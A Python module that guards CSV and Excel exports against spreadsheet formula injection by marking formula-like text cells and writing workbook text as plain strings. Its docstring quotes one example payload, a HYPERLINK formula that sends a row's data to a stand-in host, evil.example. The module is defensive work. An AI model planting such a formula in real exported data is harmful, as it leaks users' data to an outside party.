"""Tables written for people to open in a spreadsheet: every CSV and Excel export goes
through here, so that no text a user typed is run as a formula.

Spreadsheet programs run a CSV cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage
return (`=HYPERLINK("http://evil.example/?"&A1,"Click")` sends the row away on a click), and
Excel writers store a string that starts with `=` as a formula. So, as OWASP advises, a CSV
cell of text that starts with one of these gets a single quote before it, which the
programs read as "this is text" and do not show; an Excel cell of text is always a string
cell.

Workbooks are written with XlsxWriter, about twice as fast as openpyxl (which reads the
sheets people upload): an export of 2,500 registrations in every column is 57,500 cells."""

import csv
import io
import re
from collections.abc import Iterable
from datetime import date, datetime
from numbers import Number

import xlsxwriter

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
TEXT_MARK = "'"
# Control characters that the XML of an .xlsx file cannot hold.
_NOT_IN_XML = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")
_NOT_IN_SHEET_NAME = re.compile(r"[\\/*?:\[\]]")

Row = Iterable[object]


def csv_cell(value):
    """A value as a CSV cell: text that a spreadsheet would run is marked as text."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return TEXT_MARK + value
    return value


def read_csv_cell(text: str) -> str:
    """A cell of a CSV sheet as its author meant it: a cell written by csv_cell (a sheet
    exported here, filled in and uploaded again) loses its mark."""
    if text.startswith(TEXT_MARK) and text[1:].startswith(FORMULA_STARTS):
        return text[1:]
    return text


def csv_text(rows: Iterable[Row]) -> str:
    """Rows (lists of values) as CSV."""
    out = io.StringIO()
    csv.writer(out).writerows([csv_cell(value) for value in row] for row in rows)
    return out.getvalue()


def xlsx_bytes(rows: Iterable[Row], title: str) -> bytes:
    """Rows (lists of values) as an Excel workbook of one sheet named `title`: text in
    string cells (never a formula), numbers, dates and booleans as themselves."""
    return xlsx_sheets([(title, rows)])


def xlsx_sheets(sheets: Iterable[tuple[str, Iterable[Row]]]) -> bytes:
    """Sheets (a title and its rows each) as one Excel workbook, cells as in xlsx_bytes."""
    out = io.BytesIO()
    book = xlsxwriter.Workbook(
        out,
        {
            "in_memory": True,
            "strings_to_formulas": False,
            "strings_to_numbers": False,
            "strings_to_urls": False,
            "remove_timezone": True,
        },
    )
    formats = {
        date: book.add_format({"num_format": "yyyy-mm-dd"}),
        datetime: book.add_format({"num_format": "yyyy-mm-dd hh:mm:ss"}),
    }
    names = set()
    for title, rows in sheets:
        # Excel's longest sheet name, without the characters it refuses in one, and never
        # twice in a book
        name = _NOT_IN_SHEET_NAME.sub(" ", title)[:31]
        for number in range(1, len(names) + 2):
            if name.casefold() not in names:
                break
            suffix = f" ({number})"
            name = _NOT_IN_SHEET_NAME.sub(" ", title)[: 31 - len(suffix)] + suffix
        names.add(name.casefold())
        sheet = book.add_worksheet(name)
        for row_number, row in enumerate(rows):
            for column, value in enumerate(row):
                _write(sheet, row_number, column, value, formats)
    book.close()
    return out.getvalue()


def _write(sheet, row: int, column: int, value, formats: dict) -> None:
    """Text in a string cell, numbers, dates and booleans as themselves."""
    if value is None:
        return
    if isinstance(value, bool):
        sheet.write_boolean(row, column, value)
    elif isinstance(value, Number):
        sheet.write_number(row, column, float(value))
    elif isinstance(value, date):
        kind = datetime if isinstance(value, datetime) else date
        sheet.write_datetime(row, column, value, formats[kind])
    else:  # text, or a lazy translation
        sheet.write_string(row, column, _NOT_IN_XML.sub("", str(value)))
